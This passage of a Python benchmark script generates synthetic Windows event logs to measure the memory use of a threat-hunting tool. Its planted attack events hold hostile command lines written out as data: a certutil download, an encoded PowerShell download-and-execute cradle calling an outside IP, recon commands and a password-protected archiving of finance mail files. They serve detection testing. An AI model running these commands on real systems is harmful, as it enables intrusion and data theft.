"""Benchmark: peak memory of ``tidehunt hunt`` under ``--max-memory`` at 1x, 10x and 100x.

Usage:
    .venv/bin/python bench/bench_memory.py [--scales 1 10 100] [--max-memory 2GB]
                                           [--out DIR] [--keep] [--json FILE]

Writes a seeded, EVTX-equivalent Windows event export: evtx_dump-style JSON lines
(``{"Event": {"System": {...}, "EventData": {...}}}``, about 1 KB an event), Sysmon 1,
3, 11 and 13 and Security 4624 and 4688 in a realistic mix with a few planted attack
events (certutil downloads, encoded PowerShell, recon, web shells, password-protected
archives, failed-logon bursts), one file per host of ``--events-per-file`` events
(20,000, ~24 MB). 1x is 4 files (~97 MB, 80,000 events), 10x 40 files (~1 GB) and
100x 400 files (~10 GB). No Python loop per event: a few thousand distinct event
templates are built once, then Polars fills in each line's record ID, times, GUIDs,
process IDs, logon IDs and ports column-wise and writes the lines. The files are made
once into ``--out``/pool (file i is the same whatever the scale) and each scale's
evidence folder hard-links the first 4 x N of them, so 10x and 100x share their data.

Then, for each scale in a fresh process with the bundled rules (a private rule cache and
data directory, the plan cache warmed once on a small file first):

    tidehunt -q hunt OUT/xN -o OUT/case-xN --max-memory 2GB

measuring the wall time, events/s and the peak resident memory of the whole process tree
(main process plus ingest and match workers, summed at each sample every 0.2 s; the
sampler is bench/bench_network.py's), and copying the stage timings the case records
(report.json ``stats.seconds``, the Sigma and analytics seconds, ingest and parse
seconds). The RSS series is cut at those stage boundaries to say which phase held the
peak. Prints a Markdown table; ``--json FILE`` writes it all. Timing only; nothing here
is a pass/fail test. The data and cases are removed at the end unless ``--keep`` (with
``--out`` the generated pool is kept for the next run and the cases are removed).
"""

from __future__ import annotations

import argparse
import json
import os
import re
import shutil
import sys
import tempfile
import time
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import numpy as np
import polars as pl

sys.path.insert(0, str(Path(__file__).resolve().parent))
from bench_network import run_measured  # the process-tree RSS sampler

ROOT = Path(__file__).resolve().parents[1]
GEN_VERSION = 1  # bump when the generator's output changes (invalidates reused data)
FILES_PER_X = 4
EVENTS_PER_FILE = 20_000
START = datetime(2026, 11, 2, tzinfo=UTC)
DAYS = 7
DOMAIN = "CORP"
N_USERS = 300

SYSMON = ('{"Name":"Microsoft-Windows-Sysmon",'
          '"Guid":"5770385F-C22A-43E0-BF4C-06F5698FFBD9"}')
SECURITY = ('{"Name":"Microsoft-Windows-Security-Auditing",'
            '"Guid":"54849625-5478-4994-A5BA-3E3B0328C30D"}')
SYSMON_CH = "Microsoft-Windows-Sysmon/Operational"
#: Slots filled per line (numbers unquoted in the JSON); @HOST@ and @IP@ are per file.
SLOTS = ("TS", "RID", "UTC", "GUID", "PID", "LID", "PORT", "HEXPID")
NUMERIC = ("RID", "PID", "PORT")
_SLOT_RE = re.compile("@(" + "|".join(SLOTS) + ")@")

# ---- the event vocabulary --------------------------------------------------------------
WIN = "C:\\Windows\\System32\\"
PF = "C:\\Program Files\\"
PF86 = "C:\\Program Files (x86)\\"
OFFICE = PF + "Microsoft Office\\root\\Office16\\"
CHROME = PF + "Google\\Chrome\\Application\\chrome.exe"
EDGE = PF86 + "Microsoft\\Edge\\Application\\msedge.exe"
#: (image, command line with {u} user and {k} variant, parent image, description, company)
PROCESSES = [
    (WIN + "svchost.exe", WIN + "svchost.exe -k netsvcs -p -s Schedule",
     WIN + "services.exe", "Host Process for Windows Services", "Microsoft Corporation"),
    (WIN + "svchost.exe", WIN + "svchost.exe -k LocalServiceNetworkRestricted -p -s lmhosts",
     WIN + "services.exe", "Host Process for Windows Services", "Microsoft Corporation"),
    (WIN + "conhost.exe", "\\??\\" + WIN + "conhost.exe 0xffffffff -ForceV1",
     WIN + "cmd.exe", "Console Window Host", "Microsoft Corporation"),
    (CHROME, '"' + CHROME + '" --type=renderer --display-capture-permissions-policy-allowed '
     '--lang=en-GB --device-scale-factor=1 --num-raster-threads=2 --renderer-client-id={k} '
     '--field-trial-handle=1880,i,{k}', CHROME, "Google Chrome", "Google LLC"),
    (EDGE, '"' + EDGE + '" --type=utility --utility-sub-type=network.mojom.NetworkService '
     '--lang=en-US --service-sandbox-type=none --field-trial-handle=2044,i,{k} /prefetch:3',
     EDGE, "Microsoft Edge", "Microsoft Corporation"),
    (WIN + "RuntimeBroker.exe", WIN + "RuntimeBroker.exe -Embedding",
     WIN + "svchost.exe", "Runtime Broker", "Microsoft Corporation"),
    (WIN + "backgroundTaskHost.exe", '"' + WIN + 'backgroundTaskHost.exe" '
     '-ServerName:BackgroundTaskHost.WebAccountProvider', WIN + "svchost.exe",
     "Background Task Host", "Microsoft Corporation"),
    (WIN + "taskhostw.exe",
     "taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly",
     WIN + "svchost.exe", "Host Process for Windows Tasks", "Microsoft Corporation"),
    (WIN + "wbem\\WmiPrvSE.exe", WIN + "wbem\\wmiprvse.exe -secured -Embedding",
     WIN + "svchost.exe", "WMI Provider Host", "Microsoft Corporation"),
    (OFFICE + "OUTLOOK.EXE", '"' + OFFICE + 'OUTLOOK.EXE" /recycle',
     "C:\\Windows\\explorer.exe", "Microsoft Outlook", "Microsoft Corporation"),
    (OFFICE + "WINWORD.EXE", '"' + OFFICE + 'WINWORD.EXE" /n "C:\\Users\\{u}\\Documents\\'
     'Quarterly report {k}.docx" /o ""', "C:\\Windows\\explorer.exe", "Microsoft Word",
     "Microsoft Corporation"),
    (OFFICE + "EXCEL.EXE", '"' + OFFICE + 'EXCEL.EXE" "C:\\Users\\{u}\\OneDrive - Corp\\'
     'Budget {k}.xlsx"', "C:\\Windows\\explorer.exe", "Microsoft Excel",
     "Microsoft Corporation"),
    (WIN + "SearchProtocolHost.exe", '"' + WIN + 'SearchProtocolHost.exe" '
     'Global\\UsGthrFltPipeMssGthrPipe{k}_ Global\\UsGthrCtrlFltPipeMssGthrPipe{k} 1 '
     '-2147483646 "Software\\Microsoft\\Windows Search" "Mozilla/4.0 (compatible; MSIE 6.0; '
     'Windows NT; MS Search 4.0 Robot)" "C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\'
     'usgthrsvc" "DownLevelDaemon"', WIN + "SearchIndexer.exe",
     "Microsoft Windows Search Protocol Host", "Microsoft Corporation"),
    (WIN + "dllhost.exe", WIN + "DllHost.exe /Processid:{{3EB3C877-1F16-487C-9050-"
     "104DBCD66683}}", WIN + "svchost.exe", "COM Surrogate", "Microsoft Corporation"),
    ("C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", WIN + "userinit.exe",
     "Windows Explorer", "Microsoft Corporation"),
    (WIN + "notepad.exe", '"' + WIN + 'notepad.exe" C:\\Users\\{u}\\Desktop\\notes-{k}.txt',
     "C:\\Windows\\explorer.exe", "Notepad", "Microsoft Corporation"),
    (PF + "Git\\cmd\\git.exe", '"' + PF + 'Git\\cmd\\git.exe" fetch --all --prune',
     PF + "Microsoft VS Code\\Code.exe", "Git for Windows", "The Git Development Community"),
    (WIN + "msiexec.exe", WIN + "MsiExec.exe -Embedding {k}8A1F2E0C4B3D5A6E7F8091A2B3C4D5E E "
     "Global\\MSI0000", WIN + "msiexec.exe", "Windows installer", "Microsoft Corporation"),
    (WIN + "gpupdate.exe", "gpupdate.exe /target:computer /force", WIN + "svchost.exe",
     "Microsoft (R) Windows (R) Operating System Group Policy Update Utility",
     "Microsoft Corporation"),
    (WIN + "WindowsPowerShell\\v1.0\\powershell.exe", '"' + WIN + 'WindowsPowerShell\\v1.0\\'
     'powershell.exe" -NoProfile -ExecutionPolicy RemoteSigned -File '
     'C:\\ProgramData\\CorpIT\\inventory-{k}.ps1', WIN + "svchost.exe",
     "Windows PowerShell", "Microsoft Corporation"),
    (WIN + "cmd.exe", 'C:\\Windows\\system32\\cmd.exe /d /c "C:\\Program Files\\CorpAgent\\'
     'bin\\healthcheck.cmd {k}"', PF + "CorpAgent\\agent.exe", "Windows Command Processor",
     "Microsoft Corporation"),
    (PF + "Microsoft OneDrive\\OneDrive.exe", '"' + PF + 'Microsoft OneDrive\\OneDrive.exe" '
     '/background', "C:\\Windows\\explorer.exe", "Microsoft OneDrive",
     "Microsoft Corporation"),
    (WIN + "sppsvc.exe", WIN + "sppsvc.exe", WIN + "services.exe",
     "Microsoft Software Protection Platform Service", "Microsoft Corporation"),
    (PF + "Microsoft VS Code\\Code.exe", '"' + PF + 'Microsoft VS Code\\Code.exe" --type=gpu-'
     'process --field-trial-handle={k},i,155 --disable-features=SpareRendererForSitePerProcess',
     PF + "Microsoft VS Code\\Code.exe", "Visual Studio Code", "Microsoft Corporation"),
]
#: Planted process creations (attack commands, rare): image, command line, parent.
ATTACK_PROCESSES = [
    (WIN + "certutil.exe", "certutil.exe -urlcache -split -f http://103.79.77.{k}/t.gif "
     "C:\\Users\\Public\\t.exe", WIN + "cmd.exe"),
    (WIN + "WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -nop -w hidden -enc "
     "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8A"
     "dwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQAwADMALgA3ADkALgA3ADcALgB7AGsAfQ"
     "AvAGEAJwApAA==", WIN + "cmd.exe"),
    (WIN + "whoami.exe", "whoami /all", "C:\\Windows\\System32\\inetsrv\\w3wp.exe"),
    (WIN + "net.exe", 'net group "domain admins" /domain', WIN + "cmd.exe"),
    (WIN + "nltest.exe", "nltest /dclist:corp.example.com", WIN + "cmd.exe"),
    (WIN + "cmd.exe", 'cmd.exe /c "cd /d C:\\inetpub\\wwwroot&ipconfig /all"',
     "C:\\Windows\\System32\\inetsrv\\w3wp.exe"),
    (PF + "WinRAR\\Rar.exe", 'rar.exe a -hpAPT{k}x -v200m C:\\PerfLogs\\pst{k}.rar '
     '"\\\\fs01\\finance$\\*.pst"', WIN + "cmd.exe"),
]
#: Sysmon 3: (image, destination ip, hostname, port, protocol)
CONNECTIONS = [
    (CHROME, "142.250.185.{k}", "www.google.com", 443, "tcp"),
    (CHROME, "151.101.1.{k}", "cdn.jsdelivr.net", 443, "tcp"),
    (EDGE, "13.107.21.{k}", "www.bing.com", 443, "tcp"),
    (EDGE, "20.190.151.{k}", "login.microsoftonline.com", 443, "tcp"),
    (WIN + "svchost.exe", "10.0.5.{k}", "dc01.corp.example.com", 389, "tcp"),
    (WIN + "svchost.exe", "10.0.5.{k}", "dc02.corp.example.com", 88, "tcp"),
    (WIN + "svchost.exe", "52.113.194.{k}", "settings-win.data.microsoft.com", 443, "tcp"),
    (OFFICE + "OUTLOOK.EXE", "52.97.146.{k}", "outlook.office365.com", 443, "tcp"),
    (PF + "Microsoft OneDrive\\OneDrive.exe", "13.107.42.{k}", "api.onedrive.com", 443, "tcp"),
    ("System", "10.0.6.{k}", "fs01.corp.example.com", 445, "tcp"),
    (WIN + "svchost.exe", "10.0.5.53", "dc01.corp.example.com", 53, "udp"),
    (PF + "CorpAgent\\agent.exe", "10.0.7.{k}", "mgmt.corp.example.com", 8443, "tcp"),
]
ATTACK_CONNECTIONS = [
    (WIN + "rundll32.exe", "185.199.108.{k}", "raw.githubusercontent.com", 443, "tcp"),
    (PF + "rclone\\rclone.exe", "162.125.3.{k}", "content.dropboxapi.com", 443, "tcp"),
]
#: Sysmon 11: (image, target file name)
FILES = [
    (CHROME, "C:\\Users\\{u}\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cache\\"
     "Cache_Data\\f_{k:06x}"),
    (EDGE, "C:\\Users\\{u}\\AppData\\Local\\Microsoft\\Edge\\User Data\\Default\\Code Cache\\"
     "js\\{k:016x}_0"),
    (WIN + "svchost.exe", "C:\\Windows\\Prefetch\\SVCHOST.EXE-{k:08X}.pf"),
    (OFFICE + "OUTLOOK.EXE", "C:\\Users\\{u}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\"
     "Content.Outlook\\Q{k}ZT0L\\invoice-{k}.pdf"),
    (OFFICE + "WINWORD.EXE", "C:\\Users\\{u}\\AppData\\Roaming\\Microsoft\\Word\\"
     "~WRL{k:04d}.tmp"),
    (WIN + "WindowsPowerShell\\v1.0\\powershell.exe", "C:\\Users\\{u}\\AppData\\Local\\Temp\\"
     "__PSScriptPolicyTest_{k}.ps1"),
    (PF + "Microsoft OneDrive\\OneDrive.exe", "C:\\Users\\{u}\\OneDrive - Corp\\Documents\\"
     "Notes {k}.docx"),
    (WIN + "msiexec.exe", "C:\\Windows\\Installer\\{k:x}.msi"),
]
ATTACK_FILES = [
    ("C:\\Windows\\System32\\inetsrv\\w3wp.exe",
     "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\errorEE{k}.aspx"),
    (PF + "WinRAR\\Rar.exe", "C:\\PerfLogs\\pst{k}.rar"),
]
#: Sysmon 13: (image, target object, details)
REGISTRY = [
    (WIN + "svchost.exe", "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\"
     "TaskCache\\Tree\\Microsoft\\Windows\\UpdateOrchestrator\\Schedule Scan {k}\\Index",
     "DWORD (0x00000003)"),
    ("C:\\Windows\\explorer.exe", "HKU\\S-1-5-21-1004336348-1177238915-682003330-{k}\\"
     "Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\.docx\\{k}",
     "Binary Data"),
    (OFFICE + "WINWORD.EXE", "HKU\\S-1-5-21-1004336348-1177238915-682003330-{k}\\Software\\"
     "Microsoft\\Office\\16.0\\Word\\Reading Locations\\Document {k}\\Datetime",
     "2026-11-03T09:{k:02d}"),
    (WIN + "msiexec.exe", "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Installer\\"
     "UserData\\S-1-5-18\\Components\\{k:032X}\\Path", "C:\\Program Files\\CorpAgent\\bin\\"),
    (WIN + "svchost.exe", "HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\"
     "UserSettings\\S-1-5-21-1004336348-1177238915-682003330-{k}\\\\Device\\HarddiskVolume3\\"
     "Windows\\System32\\notepad.exe", "Binary Data"),
]
#: 4624: (logon type, logon process, package, ip or "-")
LOGONS = [
    (2, "User32 ", "Negotiate", "127.0.0.1"),
    (3, "Kerberos", "Kerberos", "10.0.5.{k}"),
    (3, "Kerberos", "Kerberos", "10.1.{k}.20"),
    (5, "Advapi  ", "Negotiate", "-"),
    (7, "User32 ", "Negotiate", "127.0.0.1"),
    (10, "User32 ", "Negotiate", "10.1.3.{k}"),
    (11, "User32 ", "Negotiate", "127.0.0.1"),
]
#: Type mix: (name, share); attacks take PLANTED of the events.
MIX = [("proc", 0.15), ("net", 0.25), ("file", 0.20), ("reg", 0.20), ("logon", 0.10),
       ("proc4688", 0.10)]
PLANTED = 0.003


def _json(d: dict[str, Any]) -> str:
    s = json.dumps(d, separators=(",", ":"), ensure_ascii=False)
    for slot in NUMERIC:
        s = s.replace(f'"@{slot}@"', f"@{slot}@")
    return s


def _event(provider: str, channel: str, eid: int, version: int, task: int, keywords: str,
           data: dict[str, Any], sysmon: bool) -> str:
    system = {
        "Provider": {"#attributes": "@PROV@"}, "EventID": eid, "Version": version, "Level": 4,
        "Task": task, "Opcode": 0, "Keywords": keywords,
        "TimeCreated": {"#attributes": {"SystemTime": "@TS@"}}, "EventRecordID": "@RID@",
        "Correlation": None,
        "Execution": {"#attributes": {"ProcessID": 3356 if sysmon else 788,
                                      "ThreadID": 4412 if sysmon else 6120}},
        "Channel": channel, "Computer": "@HOST@",
        "Security": {"#attributes": {"UserID": "S-1-5-18"}} if sysmon else None,
    }
    ev = {"Event": {"#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/"
                                             "events/event"},
                    "System": system, "EventData": data}}
    return _json(ev).replace('"@PROV@"', provider)


def _user(rng: np.random.Generator) -> str:
    return f"u{int(rng.integers(0, N_USERS)):04d}"


def templates(seed: int) -> dict[str, list[str]]:
    """A few thousand distinct events per type (slots left for the per-line values)."""
    rng = np.random.default_rng([seed, 0])
    out: dict[str, list[str]] = {k: [] for k, _ in MIX}
    out["attack"] = []
    hashes = "SHA1={a},MD5={b},SHA256={c},IMPHASH={d}"

    def hx(n: int) -> str:
        return "".join(rng.choice(list("0123456789ABCDEF"), n))

    def proc(image: str, cmd: str, parent: str, desc: str, company: str, u: str) -> str:
        name = image.rsplit("\\", 1)[-1]
        return _event(SYSMON, SYSMON_CH, 1, 5, 1, "0x8000000000000000", {
            "RuleName": "-", "UtcTime": "@UTC@", "ProcessGuid": "@GUID@", "ProcessId": "@PID@",
            "Image": image, "FileVersion": "10.0.22621.2506 (WinBuild.160101.0800)",
            "Description": desc, "Product": "Microsoft® Windows® Operating System",
            "Company": company, "OriginalFileName": name.upper() if len(name) < 8 else name,
            "CommandLine": cmd, "CurrentDirectory": f"C:\\Users\\{u}\\",
            "User": f"{DOMAIN}\\{u}", "LogonGuid": "@GUID@", "LogonId": "@LID@",
            "TerminalSessionId": 1, "IntegrityLevel": "Medium",
            "Hashes": hashes.format(a=hx(40), b=hx(32), c=hx(64), d=hx(32)),
            "ParentProcessGuid": "@GUID@", "ParentProcessId": "@PID@", "ParentImage": parent,
            "ParentCommandLine": parent, "ParentUser": f"{DOMAIN}\\{u}"}, True)

    def proc4688(image: str, cmd: str, parent: str, u: str) -> str:
        return _event(SECURITY, "Security", 4688, 2, 13312, "0x8020000000000000", {
            "SubjectUserSid": f"S-1-5-21-1004336348-1177238915-682003330-{1000 + int(u[1:])}",
            "SubjectUserName": u, "SubjectDomainName": DOMAIN, "SubjectLogonId": "@LID@",
            "NewProcessId": "@HEXPID@", "NewProcessName": image,
            "TokenElevationType": "%%1938", "ProcessId": "@HEXPID@", "CommandLine": cmd,
            "TargetUserSid": "S-1-0-0", "TargetUserName": "-", "TargetDomainName": "-",
            "TargetLogonId": "0x0", "ParentProcessName": parent,
            "MandatoryLabel": "S-1-16-8192"}, False)

    def net(image: str, ip: str, name: str, port: int, proto: str, u: str) -> str:
        return _event(SYSMON, SYSMON_CH, 3, 5, 3, "0x8000000000000000", {
            "RuleName": "-", "UtcTime": "@UTC@", "ProcessGuid": "@GUID@", "ProcessId": "@PID@",
            "Image": image, "User": f"{DOMAIN}\\{u}" if image != "System"
            else "NT AUTHORITY\\SYSTEM", "Protocol": proto, "Initiated": "true",
            "SourceIsIpv6": "false", "SourceIp": "@IP@", "SourceHostname": "@HOST@",
            "SourcePort": "@PORT@", "SourcePortName": "-", "DestinationIsIpv6": "false",
            "DestinationIp": ip, "DestinationHostname": name, "DestinationPort": port,
            "DestinationPortName": {443: "https", 80: "http", 445: "microsoft-ds", 53: "domain",
                                    389: "ldap", 88: "kerberos"}.get(port, "-")}, True)

    def file(image: str, target: str, u: str) -> str:
        return _event(SYSMON, SYSMON_CH, 11, 2, 11, "0x8000000000000000", {
            "RuleName": "-", "UtcTime": "@UTC@", "ProcessGuid": "@GUID@", "ProcessId": "@PID@",
            "Image": image, "TargetFilename": target, "CreationUtcTime": "@UTC@",
            "User": f"{DOMAIN}\\{u}"}, True)

    def reg(image: str, target: str, details: str, u: str) -> str:
        return _event(SYSMON, SYSMON_CH, 13, 2, 13, "0x8000000000000000", {
            "RuleName": "T1547.001,RunKey" if "CurrentVersion\\Run" in target else "-",
            "EventType": "SetValue", "UtcTime": "@UTC@", "ProcessGuid": "@GUID@",
            "ProcessId": "@PID@", "Image": image, "TargetObject": target, "Details": details,
            "User": f"{DOMAIN}\\{u}"}, True)

    def logon(ltype: int, lproc: str, pkg: str, ip: str, u: str, event_id: int = 4624) -> str:
        data: dict[str, Any] = {
            "SubjectUserSid": "S-1-5-18", "SubjectUserName": "@HOSTSHORT@$",
            "SubjectDomainName": DOMAIN, "SubjectLogonId": "0x3e7",
            "TargetUserSid": f"S-1-5-21-1004336348-1177238915-682003330-{1000 + int(u[1:])}"
            if u.startswith("u") else "S-1-0-0",
            "TargetUserName": u, "TargetDomainName": DOMAIN}
        if event_id == 4624:
            data |= {"TargetLogonId": "@LID@", "LogonType": ltype, "LogonProcessName": lproc,
                     "AuthenticationPackageName": pkg, "WorkstationName": "@HOSTSHORT@",
                     "LogonGuid": "@GUID@", "TransmittedServices": "-", "LmPackageName": "-",
                     "KeyLength": 0, "ProcessId": "0x2d4",
                     "ProcessName": WIN + "lsass.exe", "IpAddress": ip,
                     "IpPort": "@PORT@" if ip not in ("-", "127.0.0.1") else "0",
                     "ImpersonationLevel": "%%1833", "RestrictedAdminMode": "-",
                     "RemoteCredentialGuard": "-", "TargetOutboundUserName": "-",
                     "TargetOutboundDomainName": "-", "VirtualAccount": "%%1843",
                     "TargetLinkedLogonId": "0x0", "ElevatedToken": "%%1842"}
        else:
            data |= {"Status": "0xc000006d", "FailureReason": "%%2313",
                     "SubStatus": "0xc000006a", "LogonType": ltype,
                     "LogonProcessName": lproc, "AuthenticationPackageName": pkg,
                     "WorkstationName": "-", "TransmittedServices": "-", "LmPackageName": "-",
                     "KeyLength": 0, "ProcessId": "0x0", "ProcessName": "-", "IpAddress": ip,
                     "IpPort": "@PORT@"}
        return _event(SECURITY, "Security", event_id, 2 if event_id == 4624 else 0,
                      12544, "0x8020000000000000" if event_id == 4624
                      else "0x8010000000000000", data, False)

    for _ in range(900):
        p = PROCESSES[int(rng.integers(0, len(PROCESSES)))]
        u, k = _user(rng), int(rng.integers(1, 5000))
        out["proc"].append(proc(p[0], p[1].format(u=u, k=k), p[2], p[3], p[4], u))
        out["proc4688"].append(proc4688(p[0], p[1].format(u=u, k=k), p[2], u))
    for _ in range(600):
        c = CONNECTIONS[int(rng.integers(0, len(CONNECTIONS)))]
        out["net"].append(net(c[0], c[1].format(k=int(rng.integers(2, 250))), c[2], c[3], c[4],
                              _user(rng)))
    for _ in range(800):
        f = FILES[int(rng.integers(0, len(FILES)))]
        u = _user(rng)
        out["file"].append(file(f[0], f[1].format(u=u, k=int(rng.integers(1, 1 << 30))), u))
    for _ in range(600):
        r = REGISTRY[int(rng.integers(0, len(REGISTRY)))]
        k = int(rng.integers(1, 60))
        out["reg"].append(reg(r[0], r[1].format(k=int(rng.integers(1000, 1 << 20))),
                              r[2].format(k=k), _user(rng)))
    for _ in range(400):
        lg = LOGONS[int(rng.integers(0, len(LOGONS)))]
        out["logon"].append(logon(lg[0], lg[1], lg[2], lg[3].format(k=int(rng.integers(2, 250))),
                                  _user(rng)))
    for i, a in enumerate(ATTACK_PROCESSES):
        for k in range(3):
            u = _user(rng)
            cmd = a[1].replace("{k}", str(10 + i * 3 + k))
            name = a[0].rsplit("\\", 1)[-1]
            out["attack"].append(proc(a[0], cmd, a[2], name, "Microsoft Corporation", u))
            out["attack"].append(proc4688(a[0], cmd, a[2], u))
    for a2 in ATTACK_CONNECTIONS:
        for k in range(3):
            out["attack"].append(net(a2[0], a2[1].format(k=k + 100), a2[2], a2[3], a2[4],
                                     _user(rng)))
    for a3 in ATTACK_FILES:
        for k in range(3):
            out["attack"].append(file(a3[0], a3[1].format(k=k), _user(rng)))
    for k in range(3):  # NTLM network logons of a service account, failed-logon bursts
        out["attack"].append(logon(3, "NtLmSsp ", "NTLM", f"10.9.9.{k + 5}", "svc_backup"))
        for _ in range(4):
            out["attack"].append(logon(3, "NtLmSsp ", "NTLM", f"185.220.101.{k + 7}",
                                       "administrator", event_id=4625))
    return out


class Templates:
    """One event type's templates split at their slots: pieces[i] and slots[i] in order."""

    def __init__(self, texts: list[str]) -> None:
        split = [_SLOT_RE.split(t) for t in texts]
        by_shape: dict[tuple[str, ...], list[list[str]]] = {}
        for s in split:
            by_shape.setdefault(tuple(s[1::2]), []).append(s[0::2])
        # one shape per group, each with its own pieces (types have several shapes)
        self.shapes = [(list(slots), [pl.Series([p[i] for p in pieces], dtype=pl.String)
                                      for i in range(len(pieces[0]))])
                       for slots, pieces in by_shape.items()]
        self.n = len(texts)
        self.shape_of = np.concatenate([np.full(len(p[0]), i) for i, (_, p)
                                        in enumerate(self.shapes)])
        self.local = np.concatenate([np.arange(len(p[0])) for _, p in self.shapes])


def _hex(rng: np.random.Generator, n: int, width: int) -> pl.Series:
    alphabet = np.frombuffer(b"0123456789ABCDEF", np.uint8)
    a = alphabet[rng.integers(0, 16, (n, width))]
    return pl.Series(a.view(f"S{width}").ravel()).cast(pl.String)


def _guid(rng: np.random.Generator, n: int) -> pl.Series:
    a = np.frombuffer(b"0123456789ABCDEF", np.uint8)[rng.integers(0, 16, (n, 38))]
    a[:, 0], a[:, 37] = ord("{"), ord("}")
    a[:, [9, 14, 19, 24]] = ord("-")
    return pl.Series(a.view("S38").ravel()).cast(pl.String)


def _hexnum(v: np.ndarray, width: int = 4) -> pl.Series:
    """0x-prefixed lower-case hex of small non-negative integers, column-wise."""
    digits = np.frombuffer(b"0123456789abcdef", np.uint8)
    a = np.empty((len(v), width + 2), np.uint8)
    a[:, 0], a[:, 1] = ord("0"), ord("x")
    for i in range(width):
        a[:, 2 + i] = digits[(v >> (4 * (width - 1 - i))) & 15]
    return pl.Series(a.view(f"S{width + 2}").ravel()).cast(pl.String)


def slot_values(slot: str, rng: np.random.Generator, ts: pl.Series, rid: pl.Series
                ) -> pl.Series:
    """The text of one slot for each line."""
    n = len(ts)
    if slot == "TS":
        return ts.dt.strftime("%Y-%m-%dT%H:%M:%S%.6fZ")
    if slot == "UTC":
        return ts.dt.strftime("%Y-%m-%d %H:%M:%S%.3f")
    if slot == "RID":
        return rid.cast(pl.String)
    if slot == "GUID":
        return _guid(rng, n)
    if slot == "PID":
        return pl.Series(rng.integers(400, 30000, n)).cast(pl.String)
    if slot == "HEXPID":
        return _hexnum(rng.integers(0x190, 0x7530, n))
    if slot == "LID":
        return _hexnum(rng.integers(0x10000, 0xFFFFFFF, n), 7)
    if slot == "PORT":
        return pl.Series(rng.integers(49152, 65535, n)).cast(pl.String)
    raise ValueError(slot)


def write_file(path: Path, index: int, seed: int, n: int, tpl: dict[str, Templates]) -> int:
    """Host ``index``'s export: ``n`` events over DAYS days, in time order; returns bytes."""
    rng = np.random.default_rng([seed, 1, index])
    host = f"WS{index:04d}"
    subst = {"@HOST@": f"{host}.corp.example.com", "@HOSTSHORT@": host,
             "@IP@": f"10.1.{index // 250}.{index % 250 + 1}"}
    names = [k for k, _ in MIX] + ["attack"]
    w = np.array([s for _, s in MIX] + [0.0]) * (1 - PLANTED)
    w[-1] = PLANTED
    kind = rng.choice(len(names), n, p=w / w.sum())
    start_us = int(START.timestamp() * 1e6)
    offs = np.sort(rng.integers(0, DAYS * 86_400_000_000, n))
    ts_all = pl.Series("ts", start_us + offs).cast(pl.Datetime("us"))
    rid_all = pl.Series("rid", np.arange(1, n + 1, dtype=np.int64) + 1_000_000 * (index % 7))
    frames = []
    for t, name in enumerate(names):
        rows = np.flatnonzero(kind == t)
        if not len(rows):
            continue
        tp = tpl[name]
        pick = rng.integers(0, tp.n, len(rows))
        shape, local = tp.shape_of[pick], tp.local[pick]
        for si, (slots, pieces) in enumerate(tp.shapes):
            sel = shape == si
            r = rows[sel]
            if not len(r):
                continue
            idx = pl.Series(local[sel])
            ts, rid = ts_all.gather(r), rid_all.gather(r)
            cols: dict[str, pl.Series] = {}
            for i, piece in enumerate(pieces):
                for k, v in subst.items():
                    piece = piece.str.replace_all(k, v, literal=True)
                cols[f"p{i}"] = piece.gather(idx)
                if i < len(slots):
                    cols[f"s{i}"] = slot_values(slots[i], rng, ts, rid)
            line = pl.DataFrame(cols).select(pl.concat_str(pl.all()).alias("line"))["line"]
            frames.append(pl.DataFrame({"pos": r, "line": line}))
    df = pl.concat(frames).sort("pos")
    tmp = path.with_name(".tmp-" + path.name)
    df.select("line").write_csv(tmp, include_header=False, quote_style="never")
    tmp.replace(path)
    return path.stat().st_size


def ensure_pool(work: Path, files: int, seed: int, per_file: int) -> dict[str, Any]:
    """Generate the pool's files 0..files-1 (those already there for the same settings
    are reused); returns the pool's record."""
    pool, marker = work / "pool", work / "pool.json"
    want = {"seed": seed, "per_file": per_file, "version": GEN_VERSION}
    have = json.loads(marker.read_text()) if marker.exists() else {}
    if {k: have.get(k) for k in want} != want:
        shutil.rmtree(pool, ignore_errors=True)
        have = {**want, "sizes": []}
    pool.mkdir(parents=True, exist_ok=True)
    sizes: list[int] = list(have.get("sizes", []))
    todo = range(len(sizes), files)
    if todo:
        t0 = time.perf_counter()
        tpl = {k: Templates(v) for k, v in templates(seed).items()}
        for i in todo:
            sizes.append(write_file(pool / pool_name(i), i, seed, per_file, tpl))
            if (i + 1) % 20 == 0 or i + 1 == files:
                print(f"  generated {i + 1}/{files} files, {sum(sizes) / 2**30:.2f} GiB "
                      f"({time.perf_counter() - t0:.0f} s)", flush=True)
            have["sizes"] = sizes
            marker.write_text(json.dumps(have))
    return have


def pool_name(i: int) -> str:
    return f"WS{i:04d}-events.json"


def evidence(work: Path, scale: int) -> Path:
    """OUT/xN: hard links to the pool's first FILES_PER_X * N files."""
    d = work / f"x{scale}"
    shutil.rmtree(d, ignore_errors=True)
    d.mkdir()
    for i in range(FILES_PER_X * scale):
        os.link(work / "pool" / pool_name(i), d / pool_name(i))
    return d


# ---- measuring ----------------------------------------------------------------------------
def stages(case: Path) -> dict[str, Any]:
    """What the case recorded about the hunt: stage seconds, Sigma, analytics, ingest."""
    rep = json.loads((case / "report.json").read_text())
    st = rep.get("stats", {})
    ing = st.get("ingest") or {}
    ana = st.get("analytics", {})
    return {"seconds": st.get("seconds"), "sigma": st.get("sigma", {}).get("seconds"),
            "events": st.get("sigma", {}).get("events"), "hits": st.get("sigma", {}).get("hits"),
            "ingest": {k: ing.get(k) for k in ("records", "ingested", "failed", "warnings",
                                               "seconds", "parse_seconds")},
            "analytics_ran": ana.get("ran"), "analytics_seconds": ana.get("seconds"),
